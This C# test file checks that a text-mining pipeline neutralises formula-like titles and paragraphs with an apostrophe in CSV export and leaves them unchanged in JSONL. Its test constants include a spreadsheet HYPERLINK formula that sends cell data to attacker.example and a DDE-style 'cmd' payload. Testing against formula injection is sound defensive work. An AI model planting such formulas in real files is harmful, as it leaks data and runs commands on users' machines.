using TextMiner.Core;
using TextMiner.Core.Records;
using TextMiner.Pipeline.Research.Export;
using TextMiner.Pipeline.Tests.Research;
using TextMiner.TestSupport;

namespace TextMiner.Pipeline.Tests.Hostile;

/// <summary>Issue 14, row 6: a title or paragraph that starts like a formula is neutralised in CSV and left as is in JSONL.</summary>
public sealed class HostileExportTests
{
    private const string Title = "=HYPERLINK(\"https://attacker.example/?x=\"&A1,\"Click\")";
    private static readonly string[] Paragraphs = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTabbed", "A plain paragraph - with a dash."];
    private TempDirectory temp = null!;
    private Workspace workspace = null!;

    [OneTimeSetUp]
    public async Task CreateWorkspace()
    {
        temp = new TempDirectory();
        workspace = await Workspace.OpenAsync(new DataDirectory(temp.Combine("data")), TimeProvider.System, CancellationToken.None);
        var paragraphs = Paragraphs.Select((text, i) => new Paragraph(i, text)).ToList();
        var document = new Document("formula", "v1", "local", temp.Combine("formula.txt"), Title, new DateOnly(2024, 1, 1), DocumentKinds.Article, paragraphs);
        var analysed = new AnalysedDocument(document, Findings.Empty, [], paragraphs.Select(_ => (IReadOnlyList<ThemeScore>)[]).ToList(), TimeProvider.System.GetUtcNow());
        await workspace.Store.SaveAsync(analysed, CancellationToken.None);
        workspace.Sync.Add(analysed);
        await workspace.Sync.CommitAsync(CancellationToken.None);
    }

    [OneTimeTearDown]
    public async Task DisposeWorkspace()
    {
        await workspace.DisposeAsync();
        temp.Dispose();
    }

    [Test]
    public async Task ExportCsv_FormulaLikeTitleAndParagraphs_AreNeutralisedWithAnApostrophe()
    {
        var documents = ExportReader.Csv(await ExportAsync(ExportWhat.Documents, ExportFormat.Csv));
        var paragraphs = ExportReader.Csv(await ExportAsync(ExportWhat.Paragraphs, ExportFormat.Csv));

        Assert.Multiple(() =>
        {
            Assert.That(documents.Single()["title"], Is.EqualTo("'" + Title));
            Assert.That(paragraphs.Select(p => p["text"]), Is.EqualTo(new[] { "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1,2)", "'\tTabbed", "A plain paragraph - with a dash." }));
            Assert.That(paragraphs.Select(p => p["start"]), Has.None.StartsWith("'"), "numbers are never touched");
        });
    }

    [Test]
    public async Task ExportJsonLines_FormulaLikeTitleAndParagraphs_AreUnchanged()
    {
        var documents = ExportReader.JsonLines(await ExportAsync(ExportWhat.Documents, ExportFormat.Jsonl));
        var paragraphs = ExportReader.JsonLines(await ExportAsync(ExportWhat.Paragraphs, ExportFormat.Jsonl));

        Assert.Multiple(() =>
        {
            Assert.That(documents.Single()["title"], Is.EqualTo(Title));
            Assert.That(paragraphs.Select(p => p["text"]), Is.EqualTo(Paragraphs));
        });
    }

    private async Task<string> ExportAsync(ExportWhat what, ExportFormat format)
    {
        var output = new StringWriter();
        await new Exporter(workspace.Store, workspace.Index).ExportAsync(new ExportRequest(what, format), output, CancellationToken.None);
        return output.ToString();
    }
}
